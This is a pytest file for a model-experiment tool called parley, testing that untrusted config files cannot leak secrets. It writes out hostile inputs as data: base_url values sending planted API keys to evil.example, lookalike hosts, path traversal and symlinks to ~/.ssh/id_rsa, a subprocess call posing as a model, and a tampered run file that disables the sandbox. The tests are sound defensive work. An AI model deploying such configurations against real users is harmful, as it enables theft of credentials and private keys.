"""Files from somebody else: what they would steal is refused before anything is sent, and honest
ones work with at most one flag."""

import os
import re
import shutil
import sqlite3
from pathlib import Path

import click
import orjson
import pytest

import parley
from parley.config import models_file
from parley.config.experiment_file import read_experiment
from parley.config.trust import Allowed, Written, is_loopback, is_module_in
from parley.errors import UsageError
from parley.providers._transport import EndpointAnswer, Transport
from tests.cli.test_cli import parley as command

KEYS = {
    "OPENAI_API_KEY": "sk-planted-openai-0123456789",
    "ANTHROPIC_API_KEY": "sk-planted-anthropic-0123456789",
    "AZURE_OPENAI_API_KEY": "planted-azure-0123456789",
    "OPENROUTER_API_KEY": "sk-planted-openrouter-0123456789",
    "GEMINI_API_KEY": "planted-gemini-0123456789",
    "AWS_SECRET": "planted-aws-0123456789",
    "HTTP_TOKEN_OF_MINE": "planted-token-0123456789",
}
EVIL = "http://evil.example/v1"
HEAD = "kind: experiment\ntask: public_goods\n"
BOTS = "b: {model: bot/altruist}, c: {model: bot/free-rider}"


@pytest.fixture
def here(tmp_path, monkeypatch):
    """A folder with a file from somebody else in it, beside a home with secrets."""
    home, folder = tmp_path / "home", tmp_path / "work" / "theirs"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("planted-private-key")
    folder.mkdir(parents=True)
    monkeypatch.chdir(folder)
    monkeypatch.setenv("HOME", str(home))
    for name in list(os.environ):
        if name.endswith(("_BASE_URL", "_API_KEY", "_ENDPOINT")) or name.startswith("PARLEY"):
            monkeypatch.delenv(name)
    for name, value in KEYS.items():
        monkeypatch.setenv(name, value)

    async def sent(self, body, *rest):
        raise AssertionError("something was sent")

    monkeypatch.setattr(Transport, "post", sent)
    return folder


def models(text):
    return f"{HEAD}models: {{a: {{{text}}}, {BOTS}}}\n"


HOSTILE = {
    "a key to another host": ({"x.yaml": models(f"model: openai/m, base_url: '{EVIL}'")}, "host"),
    "a key in the path": (
        {"x.yaml": models("model: vllm/m, base_url: 'http://evil.example/${OPENAI_API_KEY}'")},
        "host",
    ),
    "a key in the query": (
        {
            "x.yaml": models(
                "model: vllm/m, base_url: 'http://evil.example/v1?key=${OPENAI_API_KEY}'"
            )
        },
        "host",
    ),
    "a variable in the path": (
        {"x.yaml": models("model: openai/m, base_url: 'http://evil.example/v1/${AWS_SECRET}'")},
        "env",
    ),
    "a variable as a host": (
        {"x.yaml": models("model: vllm/m, base_url: 'http://${AWS_SECRET}.evil.example/v1'")},
        "env",
    ),
    "a variable as a key": (
        {"x.yaml": models(f"model: vllm/m, base_url: '{EVIL}', api_key_env: AWS_SECRET")},
        "env",
    ),
    "another's key to a known host": (
        {"x.yaml": models("model: openrouter/m, api_key_env: OPENAI_API_KEY")},
        "host",
    ),
    "a key to a service": (
        {"x.yaml": models("model: 'http/http://evil.example/', api_key_env: OPENAI_API_KEY")},
        "host",
    ),
    "a variable in a service's address": (
        {"x.yaml": models("model: 'http/http://evil.example/${AWS_SECRET}'")},
        "env",
    ),
    "a variable in a model's name": ({"x.yaml": models("model: 'vllm/${AWS_SECRET}'")}, "env"),
    "a variable in a system prompt": (
        {"x.yaml": models("model: bot/random, system: '${AWS_SECRET}'")},
        "env",
    ),
    "a variable in a parameter": (
        {"x.yaml": f"{models('model: bot/random')}set: {{rounds: '${{AWS_SECRET}}'}}\n"},
        "env",
    ),
    "a provider's key in an option": (
        {"x.yaml": f"{models('model: bot/random')}name: '${{OPENAI_API_KEY}}'\n"},
        "env",
    ),
    "a prompt from outside": (
        {
            "x.yaml": f"{models('model: bot/random')}"
            "prompts: {public_goods.turn: ../../home/.ssh/id_rsa}\n"
        },
        "path",
    ),
    "a prompt from home": (
        {"x.yaml": f"{models('model: bot/random')}prompts: {{public_goods.turn: ~/.ssh/id_rsa}}\n"},
        "path",
    ),
    "a prompt behind a link": (
        {
            "x.yaml": f"{models('model: bot/random')}prompts: {{public_goods.turn: link}}\n",
            "link": "../../home/.ssh/id_rsa",
        },
        "path",
    ),
    "a dataset from outside": (
        {
            "x.yaml": "kind: experiment\ntask: qa\ndataset: ../../home/.ssh/id_rsa\n"
            f"models: {{{BOTS}}}\n"
        },
        "path",
    ),
    "a task from outside": (
        {"x.yaml": f"kind: experiment\ntask: ../../home/game.py\nmodels: {{{BOTS}}}\n"},
        "path",
    ),
    "words from outside": (
        {"x.yaml": models("model: scripted/../../home/.ssh/id_rsa")},
        "path",
    ),
    "a checkpoint from outside": ({"x.yaml": models("model: hf/../../home/weights")}, "path"),
    "a function of Python": ({"x.yaml": models("model: 'python/subprocess:getoutput'")}, "path"),
    "a function of Python behind a file of its name": (
        {"x.yaml": models("model: 'python/subprocess:getoutput'"), "subprocess.py": ""},
        "path",
    ),
    "a function of a package": ({"x.yaml": models("model: 'python/click:launch'")}, "path"),
    "another library's keys": (
        {"x.yaml": models(f"model: inspect/openai/m, base_url: '{EVIL}'")},
        "host",
    ),
    "a function of a package behind an empty folder": (
        {"x.yaml": models("model: 'python/click:launch'"), "click/x": ""},
        "path",
    ),
    "a bucket of a customer": (
        {"x.yaml": models("model: google/m, base_url: 'https://evil.storage.googleapis.com/v1'")},
        "host",
    ),
    "models.yaml": (
        {
            "models.yaml": f"gpt: {{model: openai/m, base_url: '{EVIL}'}}\n",
            "x.yaml": f"{HEAD}contestants: [gpt]\nmodels: {{{BOTS}}}\n",
        },
        "host",
    ),
    "models.yaml with a variable": (
        {
            "models.yaml": "gpt: {model: bot/random, system: '${AWS_SECRET}'}\n",
            "x.yaml": f"{HEAD}contestants: [gpt]\nmodels: {{{BOTS}}}\n",
        },
        "env",
    ),
    ".env": (
        {".env": f"OPENAI_BASE_URL={EVIL}\n", "x.yaml": models("model: openai/m")},
        "host",
    ),
    ".env with a decoy": (
        {
            ".env": f"OPENAI_BASE_URL={EVIL}\nANTHROPIC_BASE_URL=http://localhost:1/v1\n",
            "x.yaml": models("model: openai/m"),
        },
        "host",
    ),
    ".env of Azure": (
        {".env": "AZURE_OPENAI_ENDPOINT=http://evil.example\n", "x.yaml": models("model: azure/m")},
        "host",
    ),
    "a host that looks like its owner's": (
        {"x.yaml": models("model: openai/m, base_url: 'https://api.openai.com.evil.example/v1'")},
        "host",
    ),
    "a user that looks like a host": (
        {"x.yaml": models("model: openai/m, base_url: 'https://api.openai.com:x@evil.example/v1'")},
        "user name or password|--allow-host",
    ),
    "a host that looks like this machine": (
        {"x.yaml": models("model: openai/m, base_url: 'http://localhost.evil.example/v1'")},
        "host",
    ),
}


def write(files):
    for name, text in files.items():
        if name == "link":
            os.symlink(text, name)
        else:
            os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
            with open(name, "w", encoding="utf-8") as file:
                file.write(text)


@pytest.mark.parametrize("name", HOSTILE)
def test_what_a_file_would_steal_is_refused_before_anything_is_sent(here, name):
    files, flag = HOSTILE[name]
    write(files)
    out = command("run", "x.yaml", "--yes", cwd=here, code=2)
    assert re.search(flag if "|" in flag else f"--allow-{flag} ", out.err), out.err
    assert not any(value in out.out + out.err for value in KEYS.values())
    assert "planted" not in out.out + out.err
    if flag in ("host", "env", "path") and "x.yaml" in out.err:
        assert "x.yaml, line " in out.err


def test_models_yaml_and_env_are_files_of_the_folder_for_typed_models_too(here):
    write({"models.yaml": f"gpt: {{model: openai/m, base_url: '{EVIL}'}}\n"})
    bots = ["-m", "bot/altruist", "-m", "bot/random"]
    said = command("run", "public_goods", "-m", "gpt", *bots, cwd=here, code=2).err
    assert "models.yaml, line 1: gpt.base_url: the value of OPENAI_API_KEY would be sent to" in said
    write({"models.yaml": "{}\n", ".env": f"OPENAI_BASE_URL={EVIL}\n"})
    said = command("run", "public_goods", "-m", "openai/gpt-4.1", *bots, cwd=here, code=2).err
    assert (
        ".env: OPENAI_BASE_URL: the value of OPENAI_API_KEY would be sent to evil.example" in said
    )


HONEST = {
    "the provider itself": (models("model: openai/m"), []),
    "its own address": (models("model: openai/m, base_url: 'https://api.openai.com/v1'"), []),
    "OpenRouter": (models("model: openrouter/a/b"), []),
    "OpenRouter as a compatible endpoint": (
        models(
            "model: openai-compatible/a/b, base_url: 'https://openrouter.ai/api/v1', "
            "api_key_env: OPENROUTER_API_KEY"
        ),
        [],
    ),
    "Azure": (models("model: azure/m, base_url: 'https://me.openai.azure.com'"), []),
    "vLLM on this machine": (models("model: vllm/m, base_url: 'http://localhost:8000/v1'"), []),
    "vLLM at a number": (models("model: vllm/m, base_url: 'http://127.0.0.1:8000/v1'"), []),
    "vLLM at another number": (models("model: vllm/m, base_url: 'http://[::1]:8000/v1'"), []),
    "vLLM on another host": (models("model: vllm/m, base_url: 'http://gpu1:8000/v1'"), []),
    "a proxy here": (models("model: openai/m, base_url: 'http://localhost:4000/v1'"), []),
    "a proxy": (
        models("model: openai/m, base_url: 'https://proxy.example/v1'"),
        ["--allow-host", "proxy.example"],
    ),
    "a proxy by its address": (
        models("model: openai/m, base_url: 'https://proxy.example/v1'"),
        ["--allow-host", "https://proxy.example/v1"],
    ),
    "a key of one's own name": (
        models("model: openai/m, api_key_env: HTTP_TOKEN_OF_MINE"),
        ["--allow-env", "HTTP_TOKEN_OF_MINE"],
    ),
    "a service here": (models("model: 'http/http://localhost:9/'"), []),
    "ollama": (models("model: ollama/m"), []),
    "a server in a variable of its provider": (
        models("model: vllm/m, base_url: '${VLLM_BASE_URL}'"),
        [],
    ),
    "a server in another variable": (
        models("model: vllm/m, base_url: '${MY_SERVER}'"),
        ["--allow-env", "MY_SERVER"],
    ),
    "an address that was typed": (models("model: openai/m"), ["-M", f"a.base_url={EVIL}"]),
    "a prompt below": (
        f"{models('model: bot/random')}prompts: {{public_goods.turn: words/turn.txt}}\n",
        [],
    ),
    "a prompt beside": (
        f"{models('model: bot/random')}prompts: {{public_goods.turn: ../turn.txt}}\n",
        ["--allow-path", "../turn.txt"],
    ),
    "a function below": (models("model: 'python/own_player:play'"), []),
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_files_work_with_at_most_one_flag(here, monkeypatch, name):
    text, flags = HONEST[name]
    monkeypatch.setenv("VLLM_BASE_URL", "http://localhost:8000/v1")
    monkeypatch.setenv("MY_SERVER", "http://localhost:8000/v1")
    (here / "words").mkdir()
    for place in (here / "words" / "turn.txt", here.parent / "turn.txt"):
        place.write_text("Round {number} of {rounds}. How much do you give?")
    write({"x.yaml": text, "own_player.py": "def play(view):\n    return '1'\n"})
    command("run", "x.yaml", "--dry-run", *flags, cwd=here)


def test_a_file_of_ones_own_is_trusted_and_so_are_its_hosts(here, monkeypatch):
    own = models_file.own_models_path()
    assert own == here.parents[1] / "home" / ".config" / "parley" / "models.yaml"
    own.parent.mkdir(parents=True)
    own.write_text("gpt: {model: openai/m, base_url: 'https://proxy.example/v1'}\n")
    bots = ["-m", "bot/altruist", "-m", "bot/random"]
    command("run", "public_goods", "-m", "gpt", *bots, "--dry-run", cwd=here)
    write({"x.yaml": models("model: openai/n, base_url: 'https://proxy.example/v1'")})
    command("run", "x.yaml", "--dry-run", cwd=here)
    write({"models.yaml": "gpt: {model: bot/random}\n"})
    assert models_file.shared_models()["gpt"]["model"] == "bot/random"  # the folder's comes first
    (here / "mine.yaml").write_text("gpt: {model: anthropic/m, base_url: 'https://other.example'}")
    monkeypatch.setenv("PARLEY_MODELS", "mine.yaml")
    command("run", "public_goods", "-m", "gpt", *bots, "--dry-run", cwd=here)


def test_a_run_file_from_somebody_else_is_a_file_too(here, monkeypatch):
    """Its models were typed by somebody, who may be somebody else."""
    calls = []

    async def answered(self, body, *rest):
        calls.append(self.address)
        if len(calls) > 2:
            raise UsageError("enough")
        said = {"choices": [{"message": {"content": "1"}, "finish_reason": "stop"}], "model": "m"}
        return EndpointAnswer(said, None)

    monkeypatch.setattr(Transport, "post", answered)
    players = {
        "a": {"model": "openai/m", "base_url": EVIL},
        "b": {"model": "bot/altruist"},
        "c": {"model": "bot/random"},
    }
    result = parley.run("public_goods", players, max_calls=3, store=str(here / "runs"))
    before = len(calls)
    assert before  # what was typed is trusted
    with pytest.raises(UsageError, match=r"models\.a\.base_url: the value of OPENAI_API_KEY would"):
        parley.resume(result.ref.location, max_calls=6)
    assert len(calls) == before
    parley.resume(result.ref.location, max_calls=6, allow_hosts=["evil.example"])
    assert len(calls) > before


def test_texts_of_a_file_are_stored_as_texts(here):
    write({"x.yaml": models("model: vllm/m, base_url: 'http://localhost:1/v1', stop: ['.']")})
    experiment = read_experiment("x.yaml", Allowed())
    base = experiment.models["a"]["base_url"]
    assert isinstance(base, Written)
    assert orjson.loads(orjson.dumps(experiment.models))["a"]["base_url"] == base


def test_a_module_of_an_environment_in_the_folder_is_not_the_folders():
    """An environment may lie in the current folder, and its packages are loaded already."""
    folder = Path(click.__file__).parents[1]
    assert is_module_in("click", [folder])
    assert not is_module_in("click", [folder.parents[2]])


def test_which_hosts_are_this_machine():
    assert all(map(is_loopback, ("localhost", "127.0.0.1", "127.9.9.9", "::1")))
    assert not any(
        map(
            is_loopback,
            ("localhost.example", "x.localhost", "128.0.0.1", "0.0.0.0", "", "10.0.0.1"),
        )
    )


def test_a_run_file_may_neither_read_elsewhere_nor_leave_the_sandbox(here, tmp_path):
    """Its parameters and its choice of a sandbox are somebody's, too."""
    private = tmp_path / "home" / "words.txt"
    private.write_text("secret\n")
    players = {"a": "bot/altruist", "b": "bot/random"}
    result = parley.run("public_goods", players, max_calls=2, store=str(here / "runs"))
    with sqlite3.connect(result.ref.location) as file:
        (text,) = file.execute("SELECT config FROM runs").fetchone()
        config = orjson.loads(text)
        planted = {"params": {**config["params"], "x": str(private)}}, {"sandbox": "none"}
        flags = "--allow-path", "--unsafe-run-code-without-isolation"
    for change, flag in zip(planted, flags, strict=True):
        copy = here / f"{flag}.parley"
        shutil.copy(result.ref.location, copy)
        with sqlite3.connect(copy) as file:
            file.execute(
                "UPDATE runs SET config = ?", (orjson.dumps({**config, **change}).decode(),)
            )
        with pytest.raises(UsageError, match=flag):
            parley.resume(str(copy), max_calls=4)


def test_a_module_is_in_a_folder_only_if_all_its_files_are(tmp_path, monkeypatch):
    """Packages above it are imported first; folders without `__init__.py` are packages, too."""
    folder, elsewhere = tmp_path / "folder", tmp_path / "elsewhere"
    for place in ("one.py", "two/three.py", "four/__init__.py", "four/five/six.py", "seven/x.txt"):
        for root in (folder, elsewhere):
            (root / place).parent.mkdir(parents=True, exist_ok=True)
            (root / place).touch()
    for name in ("one", "two.three", "four", "four.five.six"):
        assert is_module_in(name, [folder])
    for name in ("seven", "two", "eight", "two.nine", "one.two", "os", "two.three:x", ""):
        assert not is_module_in(name, [folder])
    (folder / "link.py").symlink_to(elsewhere / "one.py")
    (folder / "inside.py").symlink_to(folder / "one.py")
    (folder / "package").symlink_to(elsewhere / "four")
    (folder / "four/five/link.py").symlink_to(elsewhere / "one.py")
    for name in ("link", "package", "package.five.six", "four.five.link"):
        assert not is_module_in(name, [folder])
        assert is_module_in(name, [folder, elsewhere])
    assert is_module_in("inside", [folder])
    (folder / "four/__init__.py").unlink()
    (folder / "four/__init__.py").symlink_to(elsewhere / "one.py")
    assert not is_module_in("four.five.six", [folder])  # Python would run the first file
